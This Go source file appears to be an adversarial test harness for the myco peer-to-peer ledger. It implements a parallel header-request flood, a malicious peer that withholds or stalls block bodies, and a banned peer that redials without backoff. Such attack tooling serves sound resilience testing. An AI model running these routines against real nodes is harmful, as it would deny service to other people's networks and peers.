package attack

import (
	"context"
	"encoding/binary"
	"fmt"
	"io"
	"sync"
	"sync/atomic"
	"time"

	"github.com/libp2p/go-libp2p/core/host"
	"github.com/libp2p/go-libp2p/core/network"
	"github.com/libp2p/go-libp2p/core/peer"
	"github.com/libp2p/go-libp2p/core/protocol"

	"github.com/myco-p2p/myco/ledger"
	"github.com/myco-p2p/myco/ledger/ledgertest"
)

// ChainProtocol is myco's headers-first sync protocol. Its messages: a
// uint32 frame length, then a type byte (1 get-headers, 2 headers, 3
// get-blocks, 4 blocks), a uint16 count and the entries: 32-byte hashes,
// 96-byte headers, or per block a uint32 length and the block.
const ChainProtocol protocol.ID = "/myco/chain/1.0.0"

const (
	typeGetHeaders = 1
	typeHeaders    = 2
	typeGetBlocks  = 3
	typeBlocks     = 4
	// maxFrame bounds what the attacker reads (it is careless, not naive).
	maxFrame = 64 << 20
)

func frame(typ byte, count int, body []byte) []byte {
	b := binary.BigEndian.AppendUint32(nil, uint32(3+len(body)))
	b = append(b, typ)
	b = binary.BigEndian.AppendUint16(b, uint16(count))
	return append(b, body...)
}

func readFrame(r io.Reader) ([]byte, error) {
	var lb [4]byte
	if _, err := io.ReadFull(r, lb[:]); err != nil {
		return nil, err
	}
	n := binary.BigEndian.Uint32(lb[:])
	if n > maxFrame || n < 3 {
		return nil, fmt.Errorf("frame of %d bytes", n)
	}
	buf := make([]byte, n)
	_, err := io.ReadFull(r, buf)
	return buf, err
}

// GetHeadersFromGenesis is the ~39-byte request (with its frame) that asks
// a node for every header after the genesis of network n.
func GetHeadersFromGenesis(n ledger.Network) []byte {
	g := n.Params().Genesis().Hash()
	return frame(typeGetHeaders, 1, g[:])
}

// HeaderFlood is what FloodHeaders achieved.
type HeaderFlood struct {
	// Requests sent, Answered with a response, Refused (the stream was
	// reset or never opened) while the connection stood.
	Requests, Answered, Refused int64
	// BytesOut the attacker sent, BytesIn the victim sent back.
	BytesOut, BytesIn int64
	// Banned is how long after the start the victim's connection went
	// away (zero if it never did); the flood stops then.
	Banned time.Duration
}

// FloodHeaders asks target for every header after genesis on streams
// parallel streams, over and over, until ctx ends or the victim drops the
// connection.
func FloodHeaders(ctx context.Context, h host.Host, target peer.ID, n ledger.Network, streams int) HeaderFlood {
	req := GetHeadersFromGenesis(n)
	var (
		res                         HeaderFlood
		requests, answered, refused atomic.Int64
		bytesIn                     atomic.Int64
		gone                        sync.Once
		bannedAt                    atomic.Int64
		start                       = time.Now()
		wg                          sync.WaitGroup
	)
	ctx, cancel := context.WithCancel(ctx)
	defer cancel()
	for range streams {
		wg.Go(func() {
			for ctx.Err() == nil {
				if h.Network().Connectedness(target) != network.Connected {
					gone.Do(func() { bannedAt.Store(int64(time.Since(start))); cancel() })
					return
				}
				requests.Add(1)
				str, err := h.NewStream(network.WithNoDial(ctx, "attack"), target, ChainProtocol)
				if err != nil {
					refused.Add(1)
					continue
				}
				str.SetDeadline(time.Now().Add(30 * time.Second))
				stop := context.AfterFunc(ctx, func() { str.Reset() })
				if _, err := str.Write(req); err != nil {
					stop()
					str.Reset()
					refused.Add(1)
					continue
				}
				str.CloseWrite()
				resp, err := readFrame(str)
				stop()
				str.Close()
				if err != nil {
					refused.Add(1)
					continue
				}
				answered.Add(1)
				bytesIn.Add(int64(4 + len(resp)))
			}
		})
	}
	wg.Wait()
	res.Requests, res.Answered, res.Refused = requests.Load(), answered.Load(), refused.Load()
	res.BytesOut = res.Requests * int64(len(req))
	res.BytesIn = bytesIn.Load()
	res.Banned = time.Duration(bannedAt.Load())
	return res
}

// GenerateChain returns n valid dev-network blocks after genesis, one
// second apart from the genesis time (valid proof of work at the genesis
// difficulty: cheap on dev, which is the point).
func GenerateChain(n int) []*ledger.Block {
	g := ledgertest.New(ledger.NetworkDev.Params(), 1)
	g.Miner = ledgertest.DeterministicKey(4242)
	var out []*ledger.Block
	parent := "genesis"
	for i := 1; i <= n; i++ {
		name := fmt.Sprintf("a%d", i)
		out = append(out, g.NextBlock(name, parent, nil, ledgertest.Opts{}))
		parent = name
	}
	return out
}

// Withhold says how ServeChain answers requests for bodies.
type Withhold int

const (
	// ServeBodies answers honestly.
	ServeBodies Withhold = iota
	// EmptyBodies answers every body request with "not available".
	EmptyBodies
	// StallBodies reads a body request and never answers.
	StallBodies
)

// ChainServer serves blocks over the chain protocol: the headers after a
// requester's locator (2000 at most), and the bodies as its Withhold
// says. BodyRequests counts the body requests it saw.
type ChainServer struct {
	BodyRequests atomic.Int64
	stalled      chan struct{}
}

// ServeChain installs the handler on h; Close releases stalled streams.
// A server that does not announce answers every get-headers with none (a
// sync round with it does nothing) but still serves bodies.
func ServeChain(h host.Host, blocks []*ledger.Block, announce bool, withhold Withhold) *ChainServer {
	cs := &ChainServer{stalled: make(chan struct{})}
	index := make(map[ledger.Hash]int, len(blocks)+1)
	index[ledger.NetworkDev.Params().Genesis().Hash()] = 0
	for i, b := range blocks {
		index[b.Hash()] = i + 1
	}
	h.SetStreamHandler(ChainProtocol, func(str network.Stream) {
		req, err := readFrame(str)
		if err != nil || len(req) < 3 {
			str.Reset()
			return
		}
		count := int(binary.BigEndian.Uint16(req[1:3]))
		hashes := req[3:]
		if len(hashes) != 32*count {
			str.Reset()
			return
		}
		switch req[0] {
		case typeGetHeaders:
			from := 0 // the first locator hash we know
			for i := range count {
				var h ledger.Hash
				copy(h[:], hashes[32*i:])
				if at, ok := index[h]; ok {
					from = at
					break
				}
			}
			var body []byte
			n := 0
			upto := min(from+2000, len(blocks))
			if !announce {
				upto = from
			}
			for _, b := range blocks[from:upto] {
				e := b.Header.Encode()
				body = append(body, e[:]...)
				n++
			}
			str.Write(frame(typeHeaders, n, body))
		case typeGetBlocks:
			cs.BodyRequests.Add(1)
			var body []byte
			for i := range count {
				var h ledger.Hash
				copy(h[:], hashes[32*i:])
				var enc []byte
				if at, ok := index[h]; ok && at > 0 && withhold == ServeBodies {
					enc = blocks[at-1].Encode()
				}
				body = binary.BigEndian.AppendUint32(body, uint32(len(enc)))
				body = append(body, enc...)
			}
			if withhold == StallBodies {
				<-cs.stalled
				str.Reset()
				return
			}
			str.Write(frame(typeBlocks, count, body))
		default:
			str.Reset()
			return
		}
		str.Close()
	})
	return cs
}

// Close ends the stalled answers.
func (cs *ChainServer) Close() {
	select {
	case <-cs.stalled:
	default:
		close(cs.stalled)
	}
}

// Redials is what Redial achieved.
type Redials struct {
	// Attempts counts the connection attempts (each dials every address
	// the attacker knows for the victim: TCP and QUIC here); Connected
	// those the victim took far enough to answer a request.
	Attempts, Connected int
}

// Redial is a banned attacker that does not give up: until ctx ends it
// connects to addr over and over, as fast as the victim refuses it,
// forgetting each failure (no dial backoff). A connection that gets
// through is closed and dialled again.
func Redial(ctx context.Context, h host.Host, addr string) Redials {
	var res Redials
	for ctx.Err() == nil {
		target, err := Connect(ctx, h, addr)
		if ctx.Err() != nil {
			break
		}
		res.Attempts++
		if err == nil {
			res.Connected++
			h.Network().ClosePeer(target)
		}
	}
	return res
}
